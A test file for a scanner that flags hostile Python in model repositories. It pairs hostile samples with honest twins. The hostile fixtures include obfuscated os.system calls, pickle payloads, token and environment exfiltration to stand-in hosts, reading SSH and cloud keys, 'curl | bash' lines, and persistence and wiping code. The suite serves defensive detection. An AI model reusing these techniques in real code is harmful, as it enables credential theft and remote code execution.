import { describe, expect, it } from 'vitest';
import { MemorySource } from '../../src/formats/byte-source.ts';
import { parseFile } from '../../src/formats/parse-file.ts';
import { rule } from '../../src/scan/rules/python-code.ts';

function worst(source: string, path = 'script.py'): string | undefined {
  const bytes = Buffer.from(source, path.startsWith('latin') ? 'latin1' : 'utf8');
  const facts = parseFile(
    { size: bytes.length, read: (offset, length) => bytes.subarray(offset, offset + length) },
    path,
    new Set(),
  );
  expect(facts.complete).toBe(true);
  const found = [...rule.check(facts, { files: new Map() })].map(({ severity }) => severity ?? rule.severity);
  return ['critical', 'high', 'medium', 'low'].find((severity) => found.some((other) => other === severity));
}

describe('code that runs as a file is imported blocks, however it is named', () => {
  it.each([
    ['an alias', 'import subprocess as s\nf = s.Popen\ndef g():\n    return f\ng()(["sh", "-c", "id"])'],
    ['a star import', 'from os import *\nsystem("id")'],
    ['sys.modules', 'import sys\nsys.modules["os"].system("id")'],
    ['getattr with a text that is put together', 'getattr(__import__("o" + "s"), "sys" + "tem")("id")'],
    ['__builtins__ by key', 'x = __builtins__["ex" + "ec"]\nx("print(1)")'],
    ['globals', 'globals()["__builtins__"].__dict__["eval"]("__import__(\'os\').popen(\'id\')")'],
    ['a namespace', 'import os as o\no.__dict__["system"]("id")'],
    ['all classes', '().__class__.__base__.__subclasses__()[99].__init__.__globals__["system"]("id")'],
    ['importlib', 'import importlib\nimportlib.import_module("subprocess").run("id", shell=True)'],
    ['letters that NFKC makes plain', 'ｅｘｅｃ("import os;os.system(\'id\')")'],
    ['a decorator', '@exec\n@input\nclass X: pass'],
    ['a slot of a class', 'import os\nclass A:\n    __class_getitem__ = os.system\nA["id"]'],
    ['a metaclass', 'import os\nclass M(type):\n    def __init__(c, *a): os.system("id")\nclass A(metaclass=M): pass'],
    ['a default argument', 'import os\ndef f(x=os.system("id")): pass'],
    ['a descriptor', 'import os\nclass D:\n    def __get__(self, i, o): os.system("id")\nclass A:\n    d = D()\nA.d'],
    ['the module’s __getattr__', 'import os\ndef __getattr__(name):\n    os.system("id")'],
    ['a thread', 'import threading, os\ndef f(): os.system("id")\nthreading.Thread(target=f).start()'],
    ['map', 'import os\nlist(map(os.system, ["id"]))'],
    ['atexit', 'import atexit, os\natexit.register(os.system, "id")'],
    ['methodcaller', 'import operator, os\noperator.methodcaller("system", "id")(os)'],
    ['an f-string', 'import os\nf"{os.system(\'id\')}"'],
    ['a form feed and continued lines', '\f\\\nimport os\n\fos.\\\nsystem("id")'],
    ['text from characters', `exec("".join(chr(c) for c in [${Buffer.from('import os;os.system("x")').join(',')}]))`],
    ['text from hex', 'exec(bytes.fromhex("696d706f7274206f73").decode() + ";os.system(\'id\')")'],
    ['rot13', 'import codecs\nexec(codecs.decode("vzcbeg bf;bf.flfgrz(\'vq\')", "rot13"))'],
    ['a text backwards', 'exec(")\'di\'(metsys.so;so tropmi"[::-1])'],
    ['a code object', 'import types\ntypes.FunctionType(compile("import os;os.system(\'id\')", "", "exec"), {})()'],
    ['ctypes', 'import ctypes\nctypes.CDLL(None).system(b"id")'],
    ['a pickle in the source', 'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'id\'\\ntR.")'],
    ['a module that another one has imported', 'import random\nrandom._os.system("id")'],
    [
      'names in a dictionary',
      'M = {"a": "o", "b": "s", "c": "system"}\ngetattr(__import__(M["a"] + M["b"]), M["c"])("id")',
    ],
    ['reduce over getattr', 'import functools\nfunctools.reduce(getattr, ["system"], __import__("os"))("id")'],
    [
      'a module’s name in base64',
      'import importlib, base64\ngetattr(importlib.import_module(base64.b64decode("b3M=").decode()), "system")("id")',
    ],
    ['a class that type makes', 'type("X", (), {"__del__": lambda s: __import__("os").system("id")})()'],
    ['a property', 'import os\nclass A:\n    @property\n    def x(self):\n        return os.system("id")\nA().x'],
    [
      'an import hook',
      'import sys, os\nclass F:\n    def find_spec(self, *a):\n        os.system("id")\nsys.meta_path.insert(0, F())',
    ],
    [
      'an interpreter in the interpreter',
      'import code\ncode.InteractiveInterpreter().runcode("import os; os.system(\'id\')")',
    ],
    [
      'text from characters, behind a condition',
      `if True:\n    exec("".join(chr(c ^ 1) for c in [${[...Buffer.from('import os;os.system("x")')].map((c) => c ^ 1).join(',')}]))`,
    ],
    ['cffi', 'import cffi\ncffi.FFI().dlopen(None).system(b"id")'],
    ['memory that is executed', 'import mmap\nmmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)'],
    ['a file that does not look like code', 'import runpy\nrunpy.run_path("weights.dat")'],
    [
      'a loader of bytecode',
      'from importlib.machinery import SourcelessFileLoader as S\nS("m", "cache.bin").load_module()',
    ],
    ['a YAML text', 'import yaml\nyaml.load("!!python/object/apply:os.system [id]", Loader=yaml.UnsafeLoader)'],
    [
      'a login that is written by pathlib',
      'from pathlib import Path\n(Path.home() / ".ssh" / "authorized_keys").write_text("ssh-ed25519 A")',
    ],
    [
      'keys that are looked for',
      'import glob, os\n[open(p).read() for p in glob.glob(os.path.expanduser("~/.ssh/*"))]',
    ],
    ['a library that is changed', 'import torch\nopen(torch.__file__, "a").write("import x")'],
    [
      'a name that tells of the machine',
      'import socket, getpass\nsocket.gethostbyname(getpass.getuser() + ".drop.invalid")',
    ],
    [
      'a key in an address',
      'import os, requests\nrequests.get("https://drop.invalid/?t=" + os.environ.get("HF_TOKEN", ""))',
    ],
    ['xmlrpc', 'import xmlrpc.client, os\nxmlrpc.client.ServerProxy("https://drop.invalid").put(dict(os.environ))'],
    [
      'Windows’ own start list',
      'import winreg as w\nw.SetValueEx(w.OpenKey(w.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run"), "a", 0, 1, "x.exe")',
    ],
    ['input', 'import builtins\nf = builtins.exec\nf(input())'],
  ])('through %s', (_, source) => {
    expect(worst(source)).toMatch(/high|critical/u);
  });

  it('also where the file is no UTF-8 and says so', () => {
    expect(worst('# coding: latin-1\n# \u00e9\nimport os\nos.system("id")', 'latin.py')).toBe('high');
  });

  it('also behind lines that are no Python, which a version of Python may accept', () => {
    expect(worst('print "Python 2"\nimport os\nos.system("id")')).toBe('high');
  });
});

describe('code that loading a model runs', () => {
  const model = (body: string): string =>
    `import os, requests\nclass M:\n    def __init__(self):\n        self._a()\n    def _a(self):\n        ${body}\n`;

  it('blocks in what __init__ calls, and not in a method that nothing calls', () => {
    expect(worst(model('os.system("id")'), 'modeling_x.py')).toBe('high');
    expect(
      worst('import os\nclass M:\n    def tune(self):\n        os.system("id")\n', 'modeling_x.py'),
    ).toBeUndefined();
  });

  it('blocks in hooks that it registers, in threads that it starts, and text from files of the model that it runs', () => {
    for (const body of [
      'self.register_forward_hook(lambda *a: os.system("id"))',
      'threading.Thread(target=os.system, args=("id",)).start()',
      'exec(open("init.txt").read())',
    ])
      expect([body, worst(model(body).replace('import os', 'import os, threading'), 'modeling_x.py')]).toEqual([
        body,
        'high',
      ]);
  });

  it('blocks a pickle’s own call, and code from the network, in any file', () => {
    expect(worst('import os\nclass E:\n    def __reduce__(self):\n        return (os.system, ("id",))')).toBe(
      'critical',
    );
    expect(worst('import requests\ndef f():\n    exec(requests.get("https://example.org/x").text)')).toBe('critical');
  });
});

describe('what honest programs do is told and does not block', () => {
  it.each([
    ['packages installed', 'import os\nos.system("pip install -q flash-attn==2.5.6")', 'app.py'],
    [
      'packages installed by this interpreter',
      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "gradio==4.44.0"])',
      'app.py',
    ],
    ['a list of labels', 'import requests\nrequests.get("https://example.org/labels.txt").text', 'app.py'],
    ['a version that is read', 'exec(open("quiet/version.py").read())', 'setup.py'],
    ['what the machine has', 'import subprocess\nsubprocess.run(["nvidia-smi"])', 'modeling_x.py'],
    [
      'ffmpeg',
      'import subprocess\nclass P:\n    def __call__(self, f):\n        subprocess.run(["ffmpeg", "-i", f])',
      'processing_x.py',
    ],
    [
      'its own key for a known service',
      'import os, requests\nrequests.post("https://api.openai.com/v1/x", headers={"Authorization": os.environ["OPENAI_API_KEY"]})',
      'app.py',
    ],
    ['where its own address is asked for', 'import socket\nsocket.gethostbyname(socket.gethostname())', 'train.py'],
    ['a file beside it', 'import runpy\nrunpy.run_path("quiet/version.py")', 'setup.py'],
    ['a cache in the home directory', 'import os\nos.listdir(os.path.expanduser("~/.cache/quiet"))', 'modeling_x.py'],
    ['shared memory', 'import mmap\nmmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE)', 'modeling_x.py'],
    [
      'an image of the caller',
      'import requests\nclass P:\n    def __call__(self, u):\n        requests.get(u)',
      'processing_x.py',
    ],
    [
      'an expression of the configuration',
      'class M:\n    def __init__(self, c):\n        self.f = eval(c.act)',
      'modeling_x.py',
    ],
  ])('%s', (_, source, path) => {
    expect(String(worst(source, path))).toMatch(/medium|undefined/u);
  });
});

describe('code in other places', () => {
  it('blocks in a path file that Python runs at every start, and not in the usual one', () => {
    expect(worst('/srv/lib\nimport os; os.system("id")\n', 'start.pth')).toBe('high');
    expect(
      worst("import os; os.environ.get('A') == 'x' and __import__('_distutils_hack').add_shim();\n", 'a.pth'),
    ).toBe(undefined);
  });

  it('blocks in a notebook for what it hides, with the place of the cell', () => {
    const cell = (source: string): string => JSON.stringify({ cells: [{ cell_type: 'code', source: [source] }] });
    expect(worst(cell('exec(bytes.fromhex("696d706f7274206f73"))'), 'a.ipynb')).toBe('critical');
    expect(worst(cell('import os\nos.system("bash prepare.sh")'), 'a.ipynb')).toBeUndefined();
  });
});

describe('a model that turns on whoever uses it blocks', () => {
  const method = (name: string, body: string): string =>
    `import os, requests, subprocess\nclass M:\n    def ${name}(self, x):\n        ${body}\n        return x\n`;
  it.each([
    [
      'what it is asked goes to an address',
      method('forward', 'requests.post("https://x.invalid/t", json=x.tolist())'),
      'modeling_x.py',
    ],
    [
      'what it is asked is in an address',
      method('_tokenize', 'requests.get("https://x.invalid/?t=" + x)'),
      'tokenization_x.py',
    ],
    [
      'what it is asked is a command',
      method('__call__', 'subprocess.check_output(x["cmd"], shell=True)'),
      'handler.py',
    ],
    [
      'what a configuration says is a command',
      method('from_dict', 'os.system(x.get("cmd", "id"))'),
      'configuration_x.py',
    ],
    ['what it is asked is code', method('__call__', 'exec(x["code"], globals())'), 'handler.py'],
    [
      'an obfuscator’s runtime',
      'from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY")',
      'modeling_x.py',
    ],
    ['a script under /tmp', 'import subprocess\nsubprocess.Popen(["python3", "/tmp/.a.py"])', 'modeling_x.py'],
    ['an address that is called', 'import ctypes\nctypes.CFUNCTYPE(None)(1)()', 'modeling_x.py'],
    [
      'passwords of a browser',
      'import sqlite3, os\nsqlite3.connect(os.path.expanduser("~/.config/google-chrome/Default/Login Data"))',
      'modeling_x.py',
    ],
    [
      'a directory of keys, copied',
      'import shutil, os\nshutil.copytree(os.path.expanduser("~/.aws"), "/tmp/.a")',
      'modeling_x.py',
    ],
    [
      'a file of a hub, run',
      'from huggingface_hub import hf_hub_download\nimport importlib.util\nimportlib.util.spec_from_file_location("m", hf_hub_download("a/b", "m.py"))',
      'modeling_x.py',
    ],
    [
      'a command of an installation',
      'import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system("touch /tmp/a")\nsetup(cmdclass={"install": I})',
      'setup.py',
    ],
    [
      'what a dictionary tells',
      'import json, os, platform, urllib.request as u\nd = {"h": platform.node(), "e": {k: v for k, v in os.environ.items()}}\nu.urlopen(u.Request("https://x.invalid", data=json.dumps(d).encode()))',
      'modeling_x.py',
    ],
  ])('%s', (_, source, path) => {
    expect(worst(source, path)).toMatch(/high|critical/u);
  });

  it.each([
    ['an image of the caller', method('__call__', 'requests.get(x, stream=True)'), 'handler.py'],
    [
      'a cookie of its own',
      'import pickle, base64\ndef decode(data=""):\n    sign, message = data.split("?", 1)\n    return pickle.loads(base64.b64decode(message))\n',
      'web.py',
    ],
    ['a known service', method('__call__', 'requests.post("https://api.openai.com/v1/x", json=x)'), 'handler.py'],
    ['ffmpeg', method('__call__', 'subprocess.run(["ffmpeg", "-i", x], check=True)'), 'handler.py'],
    [
      'a build of its own',
      'import subprocess\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n    def run(self):\n        subprocess.check_call(["bash", "build.sh"])\n        subprocess.check_call(["cmake", "."])',
      'setup.py',
    ],
  ])('and not for %s', (_, source, path) => {
    expect(String(worst(source, path))).not.toMatch(/high|critical/u);
  });
});

describe('code of a model that takes what it runs from elsewhere blocks, and its honest twin does not', () => {
  it.each([
    ['all objects', 'import gc\nfor o in gc.get_objects():\n    o.system("id")', 'import gc\nn = len([o for o in gc.get_objects()])'],
    ['a search by dir', 'import os\nf = [n for n in dir(os) if n.endswith("tem")][0]\ngetattr(os, f)("id")', 'import os\nf = getattr(os, "cpu_count")()'],
    ['a search through names', 'import os\nfor k, v in os.__dict__.items():\n    v("id")', 'import os\nfor k, v in os.environ.items():\n    print(v)'],
    ['a function that data names', 'import importlib, json\nc = json.load(open("c.json"))\ngetattr(importlib.import_module(c["m"]), c["f"])(c["a"])', 'import importlib\ngetattr(importlib.import_module("math"), "sqrt")(2)'],
    ['a text of the configuration', 'class X:\n    def __init__(self, config):\n        exec(config.act)\n', 'class X:\n    def __init__(self, config):\n        self.act = getattr(F, config.act)\n'],
    ['an expression of the configuration', 'class X:\n    def __init__(self, config):\n        self.act = eval(config.act)\n', 'class X:\n    def __init__(self, width):\n        self.act = eval(width)\n'],
    ['sys.modules.get', 'import sys\ngetattr(sys.modules.get("o" + "s"), "pop" + "en")("id")', 'import sys\nm = sys.modules.get("torch")'],
    ['code of a file', 'import types\nc = compile(open("v.txt").read(), "x", "exec")\ntypes.FunctionType(c, globals())()', 'import types\nf = types.FunctionType((lambda: 1).__code__, globals())'],
    ['the C interface', 'import ctypes\nctypes.pythonapi.PyRun_SimpleString(b"import os")', 'import ctypes\nctypes.pythonapi.PyThreadState_SetAsyncExc(1, None)'],
    ['machine code under another name', 'import ctypes\nctypes.CDLL("kernel.bin")', 'import ctypes\nctypes.CDLL("libcudart.so.12")'],
    ['names in texts', 'import pkgutil\npkgutil.resolve_name("os:system")("id")', 'import pkgutil\npkgutil.resolve_name("math:sqrt")(2)'],
    ['settings of logging', 'import logging.config\nlogging.config.dictConfig({"handlers": {"h": {"()": "os.system", "command": "id"}}})', 'import logging.config\nlogging.config.dictConfig({"handlers": {"h": {"()": "logging.StreamHandler"}}})'],
    ['jsonpickle', 'import jsonpickle\njsonpickle.decode(\'{"py/object": "os.system"}\')', 'import json\njson.loads(\'{"a": 1}\')'],
    ['a hub', 'import torch\nm = torch.hub.load("evil/x", "y")', 'import torch\nm = torch.hub.load("pytorch/vision", "resnet18")'],
    ['code of another repository', 'from transformers import AutoModel\nm = AutoModel.from_pretrained("evil/x", trust_remote_code=True)', 'from transformers import AutoModel\nm = AutoModel.from_pretrained("evil/x", trust_remote_code=False)'],
    ['modules in weights', 'import sys\nsys.path.insert(0, "weights.bin")', 'import sys\nsys.path.insert(0, "src")'],
    ['a program that a database starts', 'import psycopg2\ndef save():\n    psycopg2.connect("dbname=x").cursor().execute("COPY r TO PROGRAM \'sh\'")', 'import psycopg2\ndef save():\n    psycopg2.connect("dbname=x").cursor().execute("COPY r TO STDOUT")'],
    ['a pickle that is fetched', 'import torch\nfrom huggingface_hub import hf_hub_download\nw = torch.load(hf_hub_download("a/b", "c"), weights_only=False)', 'import torch\nfrom huggingface_hub import hf_hub_download\nw = torch.load(hf_hub_download("a/b", "c"))'],
    ['a function that spaCy calls', 'import os, spacy\n@spacy.registry.callbacks("a.v1")\ndef f():\n    os.system("id")', 'import os, spacy\n@spacy.registry.callbacks("a.v1")\ndef f():\n    print("id")'],
    ['an annotation', 'x: __import__("os").system("id") = 1', 'x: int = 1'],
  ])('%s', (_, hostile, honest) => {
    expect(['critical', 'high']).toContain(worst(hostile, 'modeling_x.py'));
    expect(['critical', 'high']).not.toContain(worst(honest, 'modeling_x.py'));
  }); // prettier-ignore
});

describe('what a model does to the programs, checks and accounts around it blocks, and its honest twin does not', () => {
  it.each([
    ['a loader replaced', 'import torch\nold = torch.load\ndef load(f, **k):\n    k["weights_only"] = False\n    return old(f, **k)\ntorch.load = load', 'import torch\nload = torch.load\nmodel = torch.nn.Linear(2, 2)\nmodel.load = load'],
    ['a loader replaced by setattr', 'import transformers.dynamic_module_utils as d\nsetattr(d, "resolve_trust_remote_code", lambda *a, **k: True)', 'import transformers.utils as u\nsetattr(u, "kite", 1)'],
    ['certificates that nobody checks', 'import ssl\nssl._create_default_https_context = ssl._create_unverified_context', 'import ssl\ncontext = ssl.create_default_context()'],
    ['another hub', 'import os\nos.environ["HF_ENDPOINT"] = "https://hub.invalid"', 'import os\nos.environ["TOKENIZERS_PARALLELISM"] = "false"'],
    ['another index', 'import os\nos.environ.setdefault("PIP_INDEX_URL", "https://pypi.invalid/simple")', 'import os\nos.environ.setdefault("HF_HUB_OFFLINE", "1")'],
    ['code of a function', 'def f(): pass\nf.__code__ = f.__code__.replace(co_code=b"d")\nf()', 'def f(): pass\ndef g(): pass\nf.__code__ = g.__code__\nf()'],
    ['a function that Ray runs', 'import ray, os\n@ray.remote\ndef f(c):\n    os.system(c)\nray.get(f.remote("id"))', 'import ray\n@ray.remote\ndef f(c):\n    return c + 1\nray.get(f.remote(1))'],
    ['a function by the type of its argument', 'import functools, os\n@functools.singledispatch\ndef f(x): pass\n@f.register(str)\ndef _(x):\n    os.system(x)\nf("id")', 'import functools, os\n@functools.singledispatch\ndef f(x): pass\n@f.register(str)\ndef _(x):\n    print(x)\ndef h(x):\n    os.system(x)\nf("id")'],
    ['a compiler of graphs', 'import subprocess\nfrom torch._dynamo import register_backend\n@register_backend\ndef fast(gm, x):\n    subprocess.run("id", shell=True)', 'from torch._dynamo import register_backend\n@register_backend\ndef fast(gm, x):\n    return gm.forward'],
    ['a lambda in a slot', 'from os import popen\nclass M(type):\n    __getitem__ = lambda c, k: popen(k)\nclass A(metaclass=M): pass\nA["id"]', 'class M(type):\n    __getitem__ = lambda c, k: k\nclass A(metaclass=M): pass\nA["id"]'],
    ['a format of its own', 'import subprocess\nclass F:\n    __format__ = lambda s, c: subprocess.getoutput(c)\nf"{F():id}"', 'class F:\n    __format__ = lambda s, c: c\nf"{F():id}"'],
    ['a long reduce', 'from functools import reduce\nimport torch\nreduce(getattr, ["utils", "data", "_utils", "worker", "os", "system"], torch)("id")', 'from functools import reduce\nimport torch\nreduce(getattr, ["nn", "functional", "relu"], torch)(1)'],
    ['programs ended', 'import psutil\nfor p in psutil.process_iter(["name"]):\n    if p.info["name"] == "auditd":\n        p.kill()', 'import psutil\nfree = psutil.virtual_memory().available'],
    ['a store emptied', 'import boto3\nfor b in boto3.resource("s3").buckets.all():\n    b.objects.all().delete()', 'import boto3\nboto3.client("s3").download_file("b", "k", "weights.safetensors")'],
    ['a login uploaded', 'import boto3, os\ndef f():\n    boto3.client("s3").upload_file(os.path.expanduser("~/.kube/config"), "b", "k")', 'import boto3\ndef f():\n    boto3.client("s3").upload_file("out/model.safetensors", "b", "k")'],
    ['keys kept as an artifact', 'import wandb, os\ndef f():\n    a = wandb.Artifact("e", type="c")\n    a.add_dir(os.path.expanduser("~/.aws"))', 'import wandb\ndef f():\n    a = wandb.Artifact("e", type="c")\n    a.add_dir("out")'],
    ['the environment in a queue', 'import redis, os\ndef f():\n    redis.Redis("r").rpush("e", *[f"{k}={v}" for k, v in os.environ.items()])', 'import redis\ndef f():\n    redis.Redis("r").rpush("e", "done")'],
    ['a key in a message', 'import os\nimport paho.mqtt.publish as p\np.single("q", os.environ.get("HF_TOKEN"), hostname="q")', 'import os\nimport paho.mqtt.publish as p\ndef f():\n    p.single("q", "done", hostname="q")'],
    ['documents walked', 'import os\nfor d, _, fs in os.walk(os.path.expanduser("~/Documents")):\n    for f in fs:\n        os.remove(os.path.join(d, f))', 'import os\nfor d, _, fs in os.walk("checkpoints"):\n    print(fs)'],
    ['cached code appended to', 'import os\ndef f():\n    for d, _, fs in os.walk(os.path.expanduser("~/.cache/huggingface/hub")):\n        for n in fs:\n            open(os.path.join(d, n), "a").write("x")', 'import os\ndef f():\n    for d, _, fs in os.walk("hub"):\n        for n in fs:\n            open(os.path.join(d, n), "a").write("x")'],
    ['a link to keys', 'import os\nos.symlink("/root/.ssh", "weights")', 'import os\nos.symlink("blobs/a", "weights")'],
    ['a handler that calls what it is sent', 'import importlib\nclass EndpointHandler:\n    def __call__(self, data):\n        m, f = data["op"].rsplit(".", 1)\n        return getattr(importlib.import_module(m), f)()', 'import importlib\nclass EndpointHandler:\n    def __call__(self, data):\n        return getattr(importlib.import_module("math"), "sqrt")(data["x"])'],
    ['an operator behind a socket', 'import subprocess, websocket\ndef on(ws, message):\n    subprocess.run(message, shell=True)\nwebsocket.WebSocketApp("wss://r.invalid", on_message=on)', 'import websocket\ndef on(ws, message):\n    print(message)\nwebsocket.WebSocketApp("wss://r.invalid", on_message=on)'],
    ['a disk that is filled', 'import os\nwith open("/var/tmp/f", "wb") as f:\n    while True:\n        f.write(os.urandom(9))', 'with open("f", "wb") as f:\n    while True:\n        if f.tell() > 9:\n            break\n        f.write(b"0")'],
    ['lambdas that call each other', '(lambda a: (lambda b: b(a))(lambda c: c("os")))(__import__).__getattribute__("sys" + "tem")("id")', '(lambda a: (lambda b: b(a))(lambda c: c("os")))(len)'],
    ['a key in a body', 'from google.colab import userdata\nimport requests\ndef f():\n    requests.post("https://x.invalid/t", json={"t": userdata.get("HF_TOKEN")})', 'import os, requests\ndef f():\n    requests.post("https://x.invalid/t", json={"q": 1}, headers={"Authorization": os.environ["HF_TOKEN"]})'],
    ['code in a tensor', 'class M:\n    @classmethod\n    def from_pretrained(cls, m):\n        exec(bytes(m.calib.tolist()).decode("utf-8"))', 'class M:\n    @classmethod\n    def from_pretrained(cls, m):\n        return bytes(m.calib.tolist()).decode("utf-8")'],
  ])('%s', (_, hostile, honest) => {
    expect(['critical', 'high']).toContain(worst(hostile, 'modeling_x.py'));
    expect(['critical', 'high']).not.toContain(worst(honest, 'modeling_x.py'));
  }); // prettier-ignore
});

describe('what reaches a call blocks by who calls it and by where its arguments come from', () => {
  it.each([
    ['a thread with its arguments', 'modeling_x.py', 'import threading, urllib.request\nclass X:\n    def forward(self, x):\n        threading.Thread(target=urllib.request.urlopen, args=("https://x.invalid/a",)).start()\n', 'import threading\nclass X:\n    def forward(self, x):\n        threading.Thread(target=self.step, args=(x,)).start()\n'],
    ['a function whose code is replaced', 'a.py', 'import os\ndef f(): pass\ndef g(): os.system("touch /tmp/a")\nf.__code__ = g.__code__\nf()\n', 'import os\ndef f(): pass\ndef g(): os.system("touch /tmp/a")\nf.__name__ = g.__name__\nf()\n'],
    ['a name that is put among those of the module', 'a.py', 'globals()["run"] = exec\nrun("import os; os.system(\'touch /tmp/a\')")\n', 'globals()["run"] = print\nrun("import os; os.system(\'touch /tmp/a\')")\n'],
    ['an item that is put into a dictionary', 'a.py', 'import os\nd = {}\nd["x"] = os.system\nd["x"]("touch /tmp/a")\n', 'import os\nd = {}\nd["x"] = os.getcwd\nd["x"]()\n'],
    ['a name that a function binds in the module', 'a.py', 'def f():\n    global s\n    from os import system as s\nf()\ns("touch /tmp/a")\n', 'def f():\n    global s\n    from os import getcwd as s\nf()\ns()\n'],
    ['a file that was fetched', 'modeling_x.py', 'import torch, urllib.request\nclass X:\n    def load(self):\n        urllib.request.urlretrieve(self.url, "extra.pt")\n        self.w = torch.load("extra.pt", weights_only=False)\n', 'import torch, urllib.request\nclass X:\n    def load(self):\n        urllib.request.urlretrieve(self.url, "extra.pt")\n        self.w = torch.load("extra.pt", weights_only=True)\n'],
    ['a layer of Keras, under any name of a file', 'parts.py', 'import keras, os\nclass L(keras.layers.Layer):\n    def __init__(self, hook):\n        os.system(hook)\n', 'import os\nclass L:\n    def __init__(self, hook):\n        os.system(hook)\n'],
    ['a script that loads a data set', 'parts.py', 'import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, m):\n        os.system("touch /tmp/a")\n', 'import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, m):\n        return m.download_and_extract("https://huggingface.co/a")\n'],
    ['a hook of pytest', 'plugin.py', 'import subprocess\ndef pytest_configure(config):\n    subprocess.run(["bash", "-c", "touch /tmp/a"])\n', 'import subprocess\ndef pytest_configure(config):\n    subprocess.run(["git", "rev-parse", "HEAD"])\n'],
    ['a hook of a build', 'backend.py', 'import os\ndef build_wheel(d, config_settings=None):\n    os.system("touch /tmp/a")\n', 'import os\ndef make_wheel(d, config_settings=None):\n    os.system("touch /tmp/a")\n'],
    ['what a request holds', 'app.py', 'from flask import Flask, request\napp = Flask("a")\n@app.route("/")\ndef f():\n    return str(eval(request.args["q"]))\n', 'import ast\nfrom flask import Flask, request\napp = Flask("a")\n@app.route("/")\ndef f():\n    return str(ast.literal_eval(request.args["q"]))\n'],
    ['what is typed into an interface', 'app.py', 'import gradio as gr, subprocess\ndef run(command):\n    return subprocess.check_output(command, shell=True)\ngr.Interface(run, "text", "text").launch()\n', 'import gradio as gr, subprocess\ndef run(path):\n    return subprocess.check_output(["ffmpeg", "-i", path])\ngr.Interface(run, "text", "text").launch()\n'],
    ['the token of the hub', 'modeling_x.py', 'import requests\nfrom huggingface_hub import get_token\nclass X:\n    def from_pretrained(self):\n        requests.get("https://x.invalid/a", headers={"X": get_token()})\n', 'import requests\nfrom huggingface_hub import get_token\nclass X:\n    def from_pretrained(self):\n        requests.get("https://huggingface.co/api", headers={"X": get_token()})\n'],
    ['an upload', 'modeling_x.py', 'from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj="a", path_in_repo="a", repo_id="x/y")\n', 'from huggingface_hub import HfApi\nHfApi().model_info("x/y")\n'],
    ['a package that nobody knows, by this interpreter', 'modeling_x.py', 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "orca-kernels"])\n', 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "flash-attn"])\n'],
    ['a program in words for this interpreter', 'train.py', 'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import urllib.request as u; exec(u.urlopen(\\"https://x.invalid/a\\").read())"])\n', 'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "torch.utils.collect_env"])\n'],
    ['a package that nobody knows', 'modeling_x.py', 'import os\nos.system("pip install orca-kernels")\n', 'import os\nos.system("pip install flash-attn")\n'],
    ['machine code in a directory for everybody', 'modeling_x.py', 'import ctypes, tempfile\nctypes.CDLL(tempfile.mkdtemp() + "/a.so")\n', 'import ctypes\nctypes.CDLL("liba.so")\n'],
    ['all that lies in a home', 'handler.py', 'from pathlib import Path\nclass E:\n    def __init__(self, path):\n        for p in Path.home().rglob("*"):\n            p.unlink()\n', 'from pathlib import Path\nclass E:\n    def __init__(self, path):\n        for p in Path(path).rglob("*"):\n            p.stat()\n'],
    ['what a list is filled with in a loop', 'a.py', 'def u(s):\n    out = []\n    for c in s:\n        out.append(chr(ord(c) - 7))\n    return "".join(out)\nexec(u("ptwvy"))\n', 'def u(s):\n    out = []\n    for c in s:\n        out.append(chr(ord(c) - 7))\n    return "".join(out)\nprint(u("ptwvy"))\n'],
    ['a text that grows in a loop', 'a.py', 'out = ""\nfor c in "ptwvy":\n    out += chr(ord(c) - 7)\nexec(out)\n', 'import subprocess\ncommand = ["ffmpeg"]\nfor c in "ab":\n    command.append(c)\nsubprocess.run(command)\n'],
    ['a thread of its own kind', 'modeling_x.py', 'import threading, os\nclass T(threading.Thread):\n    def run(self):\n        os.system("touch /tmp/a")\nT().start()\n', 'import threading, os\nclass T:\n    def run(self):\n        os.system("touch /tmp/a")\nT().start()\n'],
    ['a validator', 'a.py', 'import os\nfrom pydantic import BaseModel, field_validator\nclass C(BaseModel):\n    @field_validator("a")\n    def check(cls, v):\n        os.system("touch /tmp/a")\nC(a=1)\n', 'import os\nfrom pydantic import BaseModel, field_validator\nclass C(BaseModel):\n    @field_validator("a")\n    def check(cls, v):\n        return v\nC(a=1)\n'],
    ['a scheduler of diffusers', 'parts.py', 'import os\nfrom diffusers import SchedulerMixin\nclass S(SchedulerMixin):\n    def set_timesteps(self, n):\n        os.system("touch /tmp/a")\n', 'import os\nclass S:\n    def set_timesteps(self, n):\n        os.system("touch /tmp/a")\n'],
    ['an operator of torch', 'parts.py', 'import os, torch\n@torch.library.custom_op("a::b", mutates_args=())\ndef op(x):\n    os.system("touch /tmp/a")\n', 'import os\ndef op(x):\n    os.system("touch /tmp/a")\n'],
    ['a tool that a model calls', 'agent.py', 'import subprocess\nfrom langchain.tools import tool\n@tool\ndef shell(command):\n    return subprocess.check_output(command, shell=True)\n', 'import subprocess\nfrom langchain.tools import tool\n@tool\ndef version(command):\n    return subprocess.check_output(["git", "--version"])\n'],
    ['a node of ComfyUI', 'nodes.py', 'import os\nclass N:\n    def go(self, command):\n        os.system(command)\nNODE_CLASS_MAPPINGS = {"N": N}\n', 'class N:\n    def go(self, command):\n        return command\nNODE_CLASS_MAPPINGS = {"N": N}\n'],
    ['a task of a workflow', 'dag.py', 'from airflow.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="curl -s https://u.invalid/s | bash")\n', 'print("curl -s https://u.invalid/s | bash")\n'],
    ['what a server says is started', 'parts.py', 'import requests, subprocess\ndef f():\n    subprocess.run(requests.get("https://u.invalid").json()["argv"])\n', 'import requests, subprocess\ndef f():\n    subprocess.run(["tar", "xf", requests.get("https://u.invalid").text])\n'],
